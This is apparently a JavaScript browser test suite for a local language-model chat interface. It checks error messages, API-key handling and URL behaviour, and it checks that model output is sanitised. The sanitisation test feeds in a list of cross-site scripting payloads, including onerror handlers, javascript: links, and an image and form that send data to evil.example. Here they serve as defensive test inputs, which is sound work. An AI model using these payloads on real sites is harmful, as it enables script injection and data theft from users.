// What goes wrong, and what others would like to go wrong: errors in plain words, keys, hostile text.
import assert from "node:assert/strict";
import { idle, say } from "./chat.mjs";
import { Strata } from "./servers.mjs";

const error = (type, message) => ({ error: { type, message, param: null, code: 400 } });

export const cases = [
  ["faults: errors are told in plain words and can be tried again", async (context) => {
    const { proxy } = context;
    const page = await context.open();
    const expected = [
      [(answer) => answer.status(429, error("unavailable_error", "256 requests wait"), { "Retry-After": "7" }),
       /as many requests as it takes\. Try again in 7 seconds/],
      [(answer) => answer.status(400, error("exceed_context_size_error", "the prompt has 9000 tokens")),
       /longer than the model's context/],
      [(answer) => answer.status(503, error("unavailable_error", "Loading model")), /not ready yet/],
      [(answer) => answer.status(400, error("invalid_request_error", "'top_k' must be an integer")),
       /'top_k' must be an integer/],
      [(answer) => { answer.response.writeHead(502); answer.response.end("<html>bad gateway"); },
       /between this page and the server/],
      [(answer) => answer.cut(), /connection to the server is lost/],
      [(answer) => { answer.begin(); answer.event(error("server_error", "device cpu:1 failed")); answer.response.end(); },
       /device cpu:1 failed/],
    ];
    let step = 0;
    proxy.script = (answer) => expected[step][0](answer);
    await say(page, "hello");
    for (; step < expected.length; ++step) {
      if (step > 0) await page.click(".note.error .button.primary");
      await page.until((source) => new RegExp(source).test(document.querySelector(".note.error p")?.innerText),
                       expected[step][1].source);
      await idle(page);
    }
    let cut;
    const shown = new Promise((resolve) => { cut = resolve; });
    // Half an answer stays, and what comes of another try stands beside it.
    proxy.script = async (answer) => {
      answer.begin();
      await answer.slowly("half of it ", 5);
      await shown;
      answer.cut();
    };
    await page.click(".note.error .button.primary");
    await page.until(() => document.querySelector(".prose")?.innerText.startsWith("half of it"));
    cut();
    await page.until(() => /connection/.test(document.querySelector(".note.error p")?.innerText) &&
      document.querySelector(".prose").innerText.startsWith("half"));
    proxy.says("whole");
    await page.click(".note.error .button.primary");
    await page.until(() => [...document.querySelectorAll(".prose")].at(-1)?.innerText.trim() === "whole");
    await idle(page);
    assert.equal(await page.eval(() => document.querySelectorAll(".message").length), 2);
    // The browser itself complains of statuses and broken lines; that is all it complains of.
    assert.ok(page.errors.every((one) => one.startsWith("network:")), page.errors.join("; "));
    page.errors = [];
    proxy.script = (answer) => {
      answer.begin();
      answer.text("to the brim");
      answer.end("length", { cache_n: 0, prompt_n: 2000, predicted_n: 48, predicted_per_second: 1 });
    };
    await say(page, "more");
    await page.until(() => /context is full/.test([...document.querySelectorAll(".note")].at(-1)?.innerText));
  }],

  ["faults: a server with a key", async (context) => {
    const strata = await Strata.start(context.binary, context.model, "--api-key", "opensesame");
    try {
      const page = await context.open({ url: strata.url, ready: false });
      await page.until(() => document.querySelector("#key-dialog").open);
      await page.type("wrong");
      await page.key("Enter");
      await page.until(() => document.querySelector("#key-dialog").open &&
        /does not take/.test(document.querySelector("#key-why").innerText));
      await page.type("opensesame");
      await page.key("Enter");
      await page.until(() => document.querySelector("#model-name").textContent !== "");
      await say(page, "hello");
      await idle(page);
      assert.ok((await page.text(".prose")).length > 0);
      const kept = await page.eval(() => [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })]);
      assert.ok(!kept[0].includes("opensesame"));
      assert.ok(kept[1].includes("opensesame"));
      await page.reload();
      await page.until(() => document.querySelector("#model-name").textContent !== "");
      assert.ok(page.errors.every((one) => one.includes("401")), page.errors.join("; "));
      page.errors = [];
    } finally {
      await strata.stop();
    }
  }],

  ["faults: what a model writes runs nowhere and asks nobody", async (context) => {
    const page = await context.open();
    const evil = [
      "<img src=x onerror=\"window.pwned=1\">", "<script>window.pwned=2</script>",
      "<svg/onload=window.pwned=3>", "<iframe src=\"javascript:window.pwned=4\"></iframe>",
      "[a](javascript:window.pwned=5)", "[b](JaVa\tScRiPt:window.pwned=6)", "[c](data:text/html,<script>1</script>)",
      "[d](vbscript:x)", "![e](https://evil.example/leak.png?secret)", "![f](javascript:window.pwned=7)",
      "<javascript:window.pwned=8>", "[g](//evil.example)", "[h](/props)", "[i](http://good.example/a\"onclick=\"x)",
      "[j](https://good.example)", "<https://good.example/k>", "&lt;img src=x onerror=window.pwned=9&gt;",
      "| <img src=x onerror=window.pwned=10> | [t](javascript:1) |\n|---|---|\n| <b>x</b> | y |",
      "```html\n<script>window.pwned=11</script>\n```", "```\"><img src=x onerror=window.pwned=12>\nx\n```",
      "```mermaid\ngraph TD; A[\"<img src=x onerror=window.pwned=13>\"]\n```",
      "[l](  javascript:window.pwned=14  )", "[m](&#106;avascript:window.pwned=15)", "[n](java&Tab;script:1)",
      "<style>*{display:none}</style>", "<base href=\"https://evil.example/\">", "<form action=\"https://evil.example\"><input name=a></form>",
    ].join("\n\n");
    context.proxy.script = async (answer) => {
      answer.begin();
      answer.send({ delta: { reasoning_content: "<img src=x onerror=window.pwned=20>" } });
      await answer.slowly(evil, 1, 37);
      answer.send({ delta: { tool_calls: [{ index: 0, function: {
        name: "<img src=x onerror=window.pwned=21>", arguments: "<script>window.pwned=22</script>" } }] } });
      answer.end();
    };
    await say(page, "<img src=x onerror=window.pwned=30>");
    await idle(page);
    await page.click(".think summary");
    const found = await page.eval(() => {
      const box = document.querySelector("#messages");
      return {
        pwned: window.pwned,
        elements: box.querySelectorAll("img, script, iframe, object, embed, style, base, form, link, meta, b, video").length,
        handlers: [...box.querySelectorAll("*")].flatMap((node) => [...node.attributes])
          .filter((one) => /^on|^style$|^srcdoc$/.test(one.name)).length,
        links: [...box.querySelectorAll("a")].map((a) => [a.protocol, a.hostname, a.rel, a.target]),
      };
    });
    assert.equal(found.pwned, undefined);
    assert.equal(found.elements, 0);
    assert.equal(found.handlers, 0);
    assert.ok(found.links.length >= 3);
    for (const [protocol, host, rel, target] of found.links) {
      assert.equal(protocol, protocol === "http:" ? "http:" : "https:");
      assert.match(host, /^(good|evil)\.example$/);
      assert.match(rel, /noopener/);
      assert.equal(target, "_blank");
    }
    assert.match(await page.text(".message.user .said"), /<img src=x/);
    // The title of the conversation and the list are text too.
    assert.equal(await page.eval(() => document.querySelectorAll("#title *, #chat-list img").length), 0);
    assert.ok(page.requests.every((url) => url.startsWith(context.proxy.url) || url.startsWith("data:")),
              page.requests.join("\n"));
    // Even if something did get in, the policy keeps it from running.
    const stopped = await page.eval(() => new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
      const script = document.createElement("script");
      script.textContent = "window.pwned = 40";
      document.body.append(script);
    }));
    assert.match(stopped, /script-src/);
    assert.equal(await page.eval(() => window.pwned), undefined);
    page.errors = page.errors.filter((one) => !one.includes("Content Security Policy"));
  }],

  ["faults: an address sends nothing and types nothing", async (context) => {
    const page = await context.open();
    for (const path of ["/?q=rm+everything&prompt=x&autosubmit=1", "/#q=hello", "/#chat/none?q=hi",
                        "/?text=hello#memory"]) {
      // From elsewhere: addresses that differ behind the # only load nothing.
      await page.goto("about:blank");
      await page.goto(context.proxy.url + path);
      await page.until(() => document.querySelector("#model-name").textContent !== "");
      assert.equal(await page.eval(() => document.querySelector("#composer-text").value), "");
      assert.equal(await page.eval(() => document.querySelectorAll(".message").length), 0);
    }
    assert.equal(context.proxy.bodies.length, 0);
  }],
];
